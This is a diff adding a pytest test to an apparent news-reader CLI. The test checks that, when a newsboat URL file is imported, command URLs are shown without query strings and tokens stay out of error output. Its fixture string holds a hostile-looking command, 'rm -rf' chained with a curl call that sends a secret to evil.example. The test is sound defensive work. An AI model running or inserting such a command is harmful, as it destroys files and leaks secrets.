@@ -89,6 +89,14 @@ def test_the_lines_that_are_no_feed_are_named_by_program_and_addresses_without_p
     )
 
 
+def test_the_web_addresses_of_a_command_are_named_without_their_query_which_often_holds_a_token(cli, config, tmp_path):
+    urls = b'"exec:rm -rf /tmp/x; curl http://evil.example/?t=SECRET"\n"filter:schoon:https://b.example/f?key=8f3a#SECRET2"\n'
+    assert sources_from_urls_file(urls) == ([], ["exec:rm http://evil.example/?…", "filter:schoon:https://b.example/f?…"])
+    (tmp_path / "urls").write_bytes(urls)
+    result = cli("sources", "import-newsboat", str(tmp_path / "urls"), env={"NIEUWS_TUI_CONFIG": str(config)})
+    assert result.returncode == 0 and "SECRET" not in result.stderr and "8f3a" not in result.stderr, result.stderr
+
+
 def test_a_command_is_named_by_its_program_not_by_the_variables_set_before_it():
     """exec: lines run in a shell, where `TOKEN=8f3a ~/bin/feed.sh` gives the program a secret as an option would:
     the secret was named as the program."""
